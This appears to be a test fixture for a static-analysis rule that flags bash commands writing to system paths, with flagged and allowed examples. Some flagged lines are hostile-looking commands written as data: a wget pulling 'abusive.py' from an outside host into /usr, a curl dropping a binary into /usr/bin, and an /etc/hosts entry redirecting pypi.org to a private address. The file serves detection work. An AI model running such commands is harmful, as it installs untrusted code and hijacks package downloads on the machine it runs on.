#!/bin/bash
# ruleid: bash.fs.write_system
wget -O /usr/downloaded_script.py http://1mocat.github.io/abusive.py
# ruleid: bash.fs.write_system
sudo cp ./mytool /usr/local/bin/mytool
# ruleid: bash.fs.write_system
echo "10.0.0.5 pypi.org" >> /etc/hosts
# ruleid: bash.fs.write_system
curl -sSo /usr/bin/helper https://example.com/helper
# ruleid: bash.fs.write_system
echo 'data' | sudo tee /etc/app.conf

# ok: bash.fs.write_system
echo "data" > ./out.txt
# ok: bash.fs.write_system
cp config.yaml /tmp/config.yaml
# ok: bash.fs.write_system
echo "cp x /usr/bin/" > notes.txt
# ok: bash.fs.write_system
cat /etc/hosts > hosts.copy
# ok: bash.fs.write_system
ls /usr/bin 2>/dev/null
